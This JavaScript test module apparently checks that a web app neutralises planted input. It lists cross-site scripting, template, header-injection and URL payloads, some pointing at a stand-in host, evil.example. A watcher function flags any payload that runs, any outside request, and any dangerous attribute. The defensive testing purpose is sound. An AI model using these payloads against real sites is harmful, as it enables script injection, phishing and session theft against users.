// What somebody might plant in a text to have it run, load or lead elsewhere in another's browser.
// Each calls `__ran` with its number when it runs; each element it makes carries `data-planted`.
export const payloads = [
  "<script data-planted>__ran(0)</script>",
  "<img src=x data-planted onerror=__ran(1)>",
  "<svg data-planted onload=__ran(2)><animate data-planted onbegin=__ran(2) attributeName=x dur=1s>",
  '"><b data-planted autofocus tabindex=1 onfocus=__ran(3) onmouseover=__ran(3)>x</b>',
  "' autofocus onfocus='__ran(4)' data-planted='",
  "` onload=`__ran(5)` data-planted=`",
  "javascript:__ran(6)//",
  "[a](javascript:__ran(7)) ![b](javascript:__ran(7)) <javascript:__ran(7)> [c]: javascript:__ran(7)",
  "<!--><img src=x data-planted onerror=__ran(8)>--><![CDATA[<img src=x data-planted onerror=__ran(8)>]]>",
  "data:text/html,<script data-planted>parent.__ran(9)</script>",
  "\u202e<\u200bscript data-planted>__ran(10)</script> \uff1cscript data-planted\uff1e__ran(10)\uff1c/script\uff1e",
  "{{constructor.constructor('__ran(11)')()}} ${__ran(11)} <%= __ran(11) %> #{__ran(11)} {% raw %}",
  "</script><script data-planted>__ran(12)</script>",
  "</textarea></title></style></template></noscript><img src=x data-planted onerror=__ran(13)>",
  '<iframe data-planted srcdoc="<script>parent.__ran(14)</script>"></iframe>',
  "&lt;img src=x data-planted onerror=__ran(15)&gt; &#60;img src=x data-planted onerror=__ran(15)&#62; %3Cimg src=x data-planted onerror=__ran(15)%3E",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x data-planted onerror=__ran(16)&gt;\">",
  "<link rel=stylesheet href=https://evil.example/a.css data-planted><style data-planted>@import 'https://evil.example/b.css'</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/' data-planted><base href=https://evil.example/ data-planted>",
  "<div hx-get='https://evil.example/' hx-trigger=load hx-on::load='__ran(19)' data-planted></div>",
  "<form action=https://evil.example/ data-planted><input name=password autofocus><button>Go</button></form>",
  "\\\"-__ran(21)-\\\"';__ran(21)// \\u003cimg src=x data-planted onerror=__ran(21)\\u003e",
  "x\r\nSet-Cookie: planted=1\r\n\r\n<img src=x data-planted onerror=__ran(22)>",
  "<a href='java\tscript:__ran(23)' data-planted>a</a> <a href='java&#115;cript:__ran(23)' data-planted>b</a>",
];

/** The same for fields that want an address of the web. */
export const addresses = [
  "javascript:__ran(30)//https://example.com/",
  "https://example.com/\"onmouseover=__ran(31) data-planted=\"",
  "https://example.com/'><img src=x data-planted onerror=__ran(32)>",
  "data:text/html,<script>__ran(33)</script>",
];

/** What each page of a watched browser did that no page may do; empty when all is well. */
export async function watch(context, origin) {
  const faults = [];
  let where = "";
  await context.exposeFunction("__ran", (number) => faults.push(`${where}: payload ${number} ran`));
  await context.route("**/*", (route) => {
    const address = route.request().url();
    if (address.startsWith(origin) || /^(data|blob|about):/.test(address)) return route.continue();
    faults.push(`${where}: asked for ${address.slice(0, 100)}`);
    return route.abort();
  });
  context.on("dialog", (dialog) => {
    if (dialog.type() !== "beforeunload") faults.push(`${where}: ${dialog.type()} «${dialog.message()}»`);
    dialog.dismiss().catch(() => {});
  });
  context.on("console", (message) => {
    if (/content security policy/i.test(message.text())) faults.push(`${where}: ${message.text().slice(0, 200)}`);
  });
  return {
    faults,
    /** Looks at what an open page has become: planted elements, attributes that run, addresses that run. */
    async look(page, name) {
      where = name;
      const found = await page.evaluate(() => {
        const told = [];
        const name = (element) => element.outerHTML.slice(0, 160);
        for (const element of document.querySelectorAll("[data-planted]")) told.push(`planted ${name(element)}`);
        for (const element of document.querySelectorAll("*")) {
          for (const { name: attribute, value } of element.attributes) {
            if (/^on[a-z]+$/i.test(attribute)) told.push(`${attribute} in ${name(element)}`);
            if (/^(href|src|action|formaction|srcdoc|xlink:href|data|poster)$/i.test(attribute) && /^[\s\u0000-\u001f]*(javascript|vbscript|data:text)/i.test(value)) told.push(`${attribute} in ${name(element)}`);
          }
        }
        return told;
      });
      faults.push(...found.map((one) => `${name}: ${one}`));
    },
    /** From now on faults are those of this page. */
    at(name) { where = name; },
  };
}
